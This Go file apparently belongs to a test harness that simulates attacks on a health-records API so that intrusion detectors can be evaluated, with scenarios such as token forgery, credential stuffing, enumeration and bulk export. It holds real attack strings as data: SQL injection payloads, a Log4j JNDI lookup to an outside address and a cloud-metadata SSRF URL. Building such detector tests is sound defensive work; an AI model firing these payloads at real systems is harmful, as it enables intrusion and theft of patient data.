package main

import (
	"slices"
	"strconv"

	"auscult/detectors/eval/world"
	"auscult/sensor/call"
	"auscult/sensor/exposure"
	"auscult/sensor/phi"
)

// access are attacks on who may read what, and on the servers behind.
var access = []scenario{
	{"patients read without a credential", []string{"missing_auth"}, atOnce, func(p *plot) {
		for range 20 {
			p.step(p.who, p.patient(), world.ChartOpen, 2*world.Second, func(c *call.Call) {
				c.Principal, c.Auth = p.address(), call.Auth{}
				p.outside(c, requests)
			})
		}
	}},
	{"token with alg none", []string{"weak_token"}, attacker, func(p *plot) {
		for range 10 {
			p.step(p.who, p.patient(), world.ChartOpen, 3*world.Second, func(c *call.Call) {
				c.Principal.Kind, c.Principal.Token = call.JWT, 0xdead
				c.Auth = call.Auth{Scheme: call.Bearer, Marks: call.AlgNone | call.Unsigned, Issued: c.Time}
			})
		}
	}},
	{"expired token taken", []string{"weak_token"}, attacker, func(p *plot) {
		for range 10 {
			p.step(p.who, p.patient(), world.ChartOpen, 30*world.Second, func(c *call.Call) {
				c.Principal.Kind, c.Principal.Token, c.Principal.Expires = call.JWT, 0xdeae, c.Time-3*world.Hour
				c.Auth = call.Auth{Scheme: call.Bearer, Marks: call.Expired, Issued: c.Time - 9*world.Hour}
			})
		}
	}},
	{"stolen token beside its owner", []string{"token_reuse"}, attacker, func(p *plot) {
		patient := p.patient()
		for i := range 40 {
			p.step(p.who, patient, world.Results, 20*world.Second, func(c *call.Call) {
				if i%2 == 1 {
					p.outside(c, requests)
				}
			})
		}
	}},
	{"credential stuffing", []string{"auth_bruteforce"}, attacker, func(p *plot) {
		for i := range 60 {
			p.step(p.staff(), 0, world.SignIn, 2*world.Second, p.login("leak"+strconv.Itoa(i*7), uint64(1000+i), 401))
		}
	}},
	{"password spraying", []string{"auth_bruteforce"}, attacker, func(p *plot) {
		for range 40 {
			who := p.staff()
			p.step(who, 0, world.SignIn, 20*world.Second, p.login(p.w.People[who].Who.ID, 0x5ec2e7, 401))
		}
	}},
	{"one password guessed", []string{"auth_bruteforce"}, attacker, func(p *plot) {
		for i := range 60 {
			p.step(p.who, 0, world.SignIn, 2*world.Second, p.login(p.w.People[p.who].Who.ID, uint64(77+i), 401))
		}
	}},
	{"default credentials", []string{"default_credentials"}, attacker, func(p *plot) {
		p.step(p.who, 0, world.SignIn, world.Second, func(c *call.Call) {
			p.login("admin", 0xadadad, 200)(c)
			c.Auth.Marks |= call.VendorPair
		})
	}},
	{"accounts told by a reset form", []string{"account_oracle", "auth_bruteforce"}, attacker, func(p *plot) {
		for i := range 60 {
			status := 200
			if i%4 != 0 {
				status = 404
			}
			p.step(p.staff(), 0, world.ResetPassword, 2*world.Second, p.login("guess"+strconv.Itoa(i*13), 0, status))
		}
	}},
	{"SQL injection, errors shown", []string{"injection"}, attacker, func(p *plot) {
		for i := range 60 {
			text := []string{"'", "') AND 4523=4523-- -", "1' UNION ALL SELECT NULL,NULL-- -", "' AND SLEEP(5)-- -", "x' OR '1'='1"}[i%5]
			p.step(p.who, 1, world.NameSearch, world.Second, p.with(text, func(c *call.Call) {
				if i%2 == 0 {
					refuse(c, 500)
					c.Answer.Set, c.Answer.Product = exposure.DatabaseError, "PostgreSQL"
				}
			}))
		}
	}},
	{"SQL injection, blind", []string{"injection"}, attacker, func(p *plot) {
		for i := range 60 {
			text := []string{"Smith') AND 4523=4523-- -", "Smith') AND 4523=4524-- -", "Smith' AND (SELECT 1 FROM PG_SLEEP(5))-- -"}[i%3]
			p.step(p.who, 1, world.NameSearch, world.Second, p.with(text, nil))
		}
	}},
	{"lookup of Log4j", []string{"injection"}, attacker, func(p *plot) {
		p.step(p.who, p.patient(), world.Vitals, world.Second, p.with("${jndi:ldap://198.51.100.7/a}", nil))
	}},
	{"server-side request to metadata", []string{"ssrf_param"}, attacker, func(p *plot) {
		p.step(p.who, p.patient(), world.Vitals, world.Second, p.with("http://169.254.169.254/latest/meta-data/iam", nil))
	}},
	{"nurse uses functions of administrators", []string{"bfla"}, attacker, func(p *plot) {
		for i := range 9 {
			p.step(p.who, 0, []world.Kind{world.AdminUsers, world.AdminUser, world.AdminEdit}[i%3], 20*world.Second, nil)
		}
	}},
	{"portal user reads others", []string{"patient_context_mismatch", "bola_fanout"}, attacker, func(p *plot) {
		p.who = slices.IndexFunc(p.w.People, func(x *world.Person) bool { return x.Role == world.Patient })
		for range 10 {
			p.step(p.who, p.patient(), world.ChartOpen, 10*world.Second, nil)
		}
	}},
	{"nurse breaks the glass", []string{"break_glass_abuse"}, attacker, func(p *plot) {
		for range 12 {
			p.step(p.who, p.patient(), world.Emergency, 4*world.Minute, nil)
		}
	}},
	{"records deleted in a row", []string{"bulk_write_delete"}, attacker, func(p *plot) {
		for range 60 {
			p.step(p.who, p.patient(), world.Record, 3*world.Second, func(c *call.Call) {
				refuse(c, 204)
				c.Method, c.FHIR.Interaction, c.Endpoint = "DELETE", "delete", c.Endpoint^0xde1e7e
			})
		}
	}},
	{"appointments grabbed", []string{"business_flow_abuse", "resource_exhaustion"}, attacker, func(p *plot) {
		for range 80 {
			p.step(p.who, p.patient(), world.Book, world.Second, nil)
		}
	}},
	{"health data to an address outside", []string{"exfil_destination", "bola_fanout", "low_slow_scrape", "token_reuse"}, attacker, func(p *plot) {
		for i := range 12 {
			p.step(p.who, i, world.CohortPage, 20*world.Second, func(c *call.Call) { p.outside(c, requests) })
		}
	}},
	{"one endpoint hammered", []string{"resource_exhaustion"}, attacker, func(p *plot) {
		for range 1500 {
			p.step(p.who, 0, world.Inbox, world.Second/25, nil)
		}
	}},
	{"word list of paths", []string{"recon_probe"}, attacker, func(p *plot) {
		for i := range 60 {
			p.step(p.who, 0, world.Probe, world.Second, func(c *call.Call) {
				p.outside(c, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36")
				c.Principal, c.Auth = p.address(), call.Auth{}
				c.Path = "/" + []string{"backup", "test", "old", "api", "dev", "tmp", "data"}[i%7] + strconv.Itoa(i)
				c.Target = c.Path
			})
		}
	}},
	{"records guessed and refused", []string{"recon_probe", "sequential_enumeration"}, attacker, func(p *plot) {
		for range 60 {
			p.step(p.who, p.patient(), world.ChartOpen, 2*world.Second, func(c *call.Call) { refuse(c, 404) })
		}
	}},
	{"one answer with sixty patients", []string{"oversized_phi", "bulk_export"}, atOnce, func(p *plot) {
		p.step(p.who, p.patient(), world.ChartOpen, world.Second, func(c *call.Call) { c.PHI.People, c.PHI.Records = 60, 60 })
	}},
	{"bulk export by a person", []string{"bulk_export", "oversized_phi"}, atOnce, func(p *plot) {
		p.step(p.who, 1, world.CohortPage, world.Second, func(c *call.Call) {
			c.Path, c.Target, c.Query, c.Route, c.Endpoint = "/fhir/$export", "/fhir/$export", "", "/fhir/$export", 0xe4b027
			c.FHIR = call.FHIR{Interaction: "operation", Operation: "$export"}
			c.Flags = call.Bulk | call.HealthAPI
		})
	}},
	{"stack trace shown", []string{"verbose_error"}, endpoint, func(p *plot) {
		p.step(p.who, p.patient(), world.ChartOpen, world.Second, func(c *call.Call) {
			refuse(c, 500)
			c.Answer.Set, c.Answer.Product = exposure.StackTrace, "Java"
		})
	}},
	{"any origin may read", []string{"cors_misconfig"}, endpoint, func(p *plot) {
		for _, origin := range []string{"https://evil.example", "https://shop.test", "https://a.invalid"} {
			p.step(p.who, p.patient(), world.ChartOpen, world.Second, func(c *call.Call) {
				c.Answer.CORS, c.Answer.Origin = call.Reflected|call.WithCredents, origin
			})
		}
	}},
	{"password hashes in an answer", []string{"excess_property"}, endpoint, func(p *plot) {
		for range 5 {
			p.step(p.staff(), p.patient(), world.Account, world.Second, func(c *call.Call) {
				c.PHI.Classes |= phi.Credential
				c.Answer.Props = append(slices.Clone(c.Answer.Props), call.Prop{Key: 0x9a55, Name: "passwordHash", Class: phi.Credential})
			})
		}
	}},
	{"configuration behind an actuator", []string{"exposed_management"}, endpoint, func(p *plot) {
		p.step(p.who, 0, world.Inbox, world.Second, func(c *call.Call) {
			c.Path, c.Target, c.Route, c.Endpoint = "/actuator/env", "/actuator/env", "/actuator/env", 0xac7
			c.Flags |= call.Operator
			c.Answer.Set = exposure.Management | exposure.Configuration
		})
	}},
}
